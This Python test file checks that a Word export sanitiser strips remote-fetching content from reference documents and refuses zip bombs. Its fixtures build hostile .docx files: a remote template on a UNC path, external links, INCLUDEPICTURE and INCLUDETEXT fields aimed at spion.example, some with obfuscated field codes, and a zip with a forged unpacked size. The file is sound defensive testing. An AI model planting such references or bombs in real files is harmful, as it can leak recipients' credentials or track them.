"""A stored Word reference cannot make Word contact anyone, and a zip bomb is refused unopened."""

from __future__ import annotations

import struct
import zipfile
from pathlib import Path

import pytest

from app.export.docx_export import export_docx
from app.export.docx_reference import DEFAULT_REFERENCE
from app.export.docx_safety import FETCHING_FIELDS, MAX_UNPACKED_BYTES, strip_external
from app.export.result import ExportError
from app.word_reference import set_reference
from app.workspace import Workspace
from db import models
from tests.export.fixtures import open_docx, small_plan

EVIL = ("https://spion.example/mall.dotm", r"\\spion.example\delat\mall.dotm", "https://spion.example/logo.png")


def _hostile_reference(tmp_path: Path) -> Path:
    """A reference whose settings attach a remote template (UNC path) and whose header links out."""
    import docx
    from docx.opc.constants import RELATIONSHIP_TYPE as RT
    from docx.oxml import parse_xml
    from docx.oxml.ns import nsdecls

    doc = docx.Document(str(DEFAULT_REFERENCE))
    settings = doc.part.part_related_by(RT.SETTINGS)
    rid = settings.relate_to(EVIL[1], f"{RT.SETTINGS.rsplit('/', 1)[0]}/attachedTemplate", is_external=True)
    settings.element.insert(0, parse_xml(f'<w:attachedTemplate {nsdecls("w", "r")} r:id="{rid}"/>'))
    header = doc.sections[0].header
    link = header.part.relate_to(EVIL[0], RT.HYPERLINK, is_external=True)
    header.paragraphs[0]._p.append(parse_xml(
        f'<w:hyperlink {nsdecls("w", "r")} r:id="{link}"><w:r><w:t>Vår webbplats</w:t></w:r></w:hyperlink>'))
    picture = doc.part.relate_to(EVIL[2], RT.IMAGE, is_external=True)
    assert picture
    out = tmp_path / "fientlig.docx"
    doc.save(str(out))
    return out


def _external_traces(data_or_path: bytes | Path, *, links_of_the_plan: bool = False) -> list[str]:
    """Parts that point outside the package; an export's own hyperlinks (from the plan's text) are
    clickable links Word never follows by itself, so with `links_of_the_plan` only the reference's count."""
    import io

    source = io.BytesIO(data_or_path) if isinstance(data_or_path, bytes) else data_or_path
    found = []
    with zipfile.ZipFile(source) as z:
        for name in z.namelist():
            text = z.read(name)
            if (b'TargetMode="External"' in text and not links_of_the_plan) or b"attachedTemplate" in text or any(
                    e.encode() in text for e in EVIL):
                found.append(name)
    return found


def test_hostile_reference_is_cleaned_when_stored(tmp_path: Path) -> None:
    ref = _hostile_reference(tmp_path)
    assert _external_traces(ref)
    ws = Workspace.create(tmp_path / "fil.uppdrag")
    set_reference(ws, ref)
    stored = bytes(models.Asset.get().data)
    ws.close()
    assert _external_traces(stored) == []


def test_hostile_reference_is_cleaned_again_when_used(tmp_path: Path) -> None:
    """A reference stored by an older version (or crafted inside the file) never reaches an export."""
    ref = _hostile_reference(tmp_path)
    out = tmp_path / "plan.docx"
    export_docx(small_plan(), out, reference=ref)
    assert _external_traces(out, links_of_the_plan=True) == []
    doc = open_docx(out)  # the header's link lost its target, not its text: the document opens
    assert "Vår webbplats" in doc.sections[0].header.paragraphs[0]._p.xml


FETCHED = ("https://spion.example/logga.png", r"\\spion.example\delat\text.docx", "https://spion.example/namn")


def _runs(*parts: str) -> str:
    """Runs of a complex field: ("begin"), ("separate"), ("end") or a piece of its code or result."""
    out = []
    for part in parts:
        if part in ("begin", "separate", "end"):
            out.append(f'<w:r><w:fldChar w:fldCharType="{part}"/></w:r>')
        elif part.startswith("="):
            out.append(f"<w:r><w:t>{part[1:]}</w:t></w:r>")  # what Word last showed
        else:
            out.append(f'<w:r><w:instrText xml:space="preserve">{part}</w:instrText></w:r>')
    return "".join(out)


def _fields_reference(tmp_path: Path) -> Path:
    """A reference whose header and footer fetch a picture and text when Word updates their fields,
    written the ways Word writes them and the ways a crafted file could hide them."""
    import docx
    from docx.oxml import parse_xml
    from docx.oxml.ns import nsdecls

    doc = docx.Document(str(DEFAULT_REFERENCE))
    header, footer = doc.sections[0].header, doc.sections[0].footer
    paragraph = f'<w:p {nsdecls("w")}>{{}}</w:p>'
    header._element.append(parse_xml(paragraph.format(_runs(  # the code split over runs, in lower case
        "begin", " include", f'picture "{FETCHED[0]}" \\d ', "separate", "=Logotyp", "end"))))
    header._element.append(parse_xml(paragraph.format(_runs(  # the field's name made by a field in its code
        "begin", " ", "begin", ' QUOTE "INCLUDEPICTURE" ', "separate", "=INCLUDEPICTURE", "end", f' "{FETCHED[2]}" ',
        "separate", "=Namnbild", "end"))))
    footer._element.append(parse_xml(paragraph.format(
        f'<w:fldSimple w:instr=\' INCLUDETEXT "{FETCHED[1]}" \'><w:r><w:t>Villkor</w:t></w:r></w:fldSimple>')))
    footer._element.append(parse_xml(paragraph.format(  # a field that fetches nothing stays
        "<w:r><w:t>Sida </w:t></w:r>" + _runs("begin", " PAGE ", "separate", "=2", "end"))))
    out = tmp_path / "falt.docx"
    doc.save(str(out))
    return out


def _field_traces(data: bytes) -> list[str]:
    """The addresses of FETCHED anywhere in the package, and the field codes that would fetch."""
    import io

    from lxml import etree

    w = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
    found = []
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            raw = z.read(name)
            found += [f for f in FETCHED if f.encode() in raw]
            if name.endswith(".xml"):
                root = etree.fromstring(raw)
                codes = [el.text or "" for el in root.iter(f"{w}instrText")]
                codes += [el.get(f"{w}instr") or "" for el in root.iter(f"{w}fldSimple")]
                found += [c for c in codes if (c.split() or [""])[0].upper() in FETCHING_FIELDS
                          or "PICTURE" in c.upper() or "INCLUDE" in c.upper()]
    return found


def test_fields_that_fetch_are_unlinked_and_keep_what_they_showed(tmp_path: Path) -> None:
    ref = _fields_reference(tmp_path)
    before = ref.read_bytes()
    assert {" include", ' QUOTE "INCLUDEPICTURE" ', *FETCHED} <= set(_field_traces(before))
    cleaned = strip_external(before, ref.name)
    assert _field_traces(cleaned) == []
    import io

    import docx

    doc = docx.Document(io.BytesIO(cleaned))
    header = [p.text for p in doc.sections[0].header.paragraphs]
    footer = [p.text for p in doc.sections[0].footer.paragraphs]
    assert "Logotyp" in header and "Namnbild" in header and "Villkor" in footer
    assert not any("INCLUDE" in text for text in header + footer)
    page = doc.sections[0].footer.paragraphs[-1]._p.xml
    assert "PAGE" in page and "fldChar" in page  # Sida N stays a field
    assert strip_external(cleaned, ref.name) is cleaned  # nothing left to clean


def test_fields_that_fetch_never_reach_the_file_or_an_export(tmp_path: Path) -> None:
    ref = _fields_reference(tmp_path)
    ws = Workspace.create(tmp_path / "fil.uppdrag")
    set_reference(ws, ref)
    stored = bytes(models.Asset.get().data)
    ws.close()
    assert _field_traces(stored) == []
    out = tmp_path / "plan.docx"
    export_docx(small_plan(), out, reference=ref)  # a reference stored before this was cleaned is cleaned here
    assert _field_traces(out.read_bytes()) == []
    assert "Logotyp" in [p.text for p in open_docx(out).sections[0].header.paragraphs]


def test_clean_package_is_left_as_it_is() -> None:
    data = DEFAULT_REFERENCE.read_bytes()
    assert strip_external(data, "reference.docx") is data


def _bomb(tmp_path: Path, declared: int) -> Path:
    """A small zip whose one entry says it unpacks to `declared` bytes (what a zip bomb does)."""
    path = tmp_path / "bomb.docx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", b"<Types/>")
        z.writestr("word/document.xml", b"\0" * 1024)
    data = bytearray(path.read_bytes())
    central = data.rindex(b"PK\x01\x02")  # the last entry's central directory record
    data[central + 24:central + 28] = struct.pack("<I", declared)
    path.write_bytes(bytes(data))
    return path


def test_zip_bomb_is_refused_before_unpacking(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    bomb = _bomb(tmp_path, 3_000_000_000)
    ws = Workspace.create(tmp_path / "fil.uppdrag")

    def never(*_a: object, **_k: object) -> None:
        raise AssertionError("an entry was unpacked")

    monkeypatch.setattr(zipfile.ZipFile, "open", never)
    with pytest.raises(ValueError, match="packas upp") as refused:
        set_reference(ws, bomb)
    assert models.Asset.select().count() == 0
    ws.close()
    assert f"{MAX_UNPACKED_BYTES // (1024 * 1024)} MB" in str(refused.value)
    with pytest.raises(ExportError, match="packas upp"):
        export_docx(small_plan(), tmp_path / "plan.docx", reference=bomb)
    assert not (tmp_path / "plan.docx").exists()


def test_a_reference_with_its_fields_unlinked_converts_in_libreoffice(tmp_path: Path) -> None:
    """What is left of the unlinked fields is a document a real Word reader opens."""
    from app.export.pdf_export import export_pdf
    from tests.export.test_pdf_export import page_count, require_libreoffice

    require_libreoffice()
    out = tmp_path / "plan.pdf"
    export_pdf(small_plan(), out, reference=_fields_reference(tmp_path), timeout=300)
    assert out.read_bytes().startswith(b"%PDF-") and page_count(out) >= 1
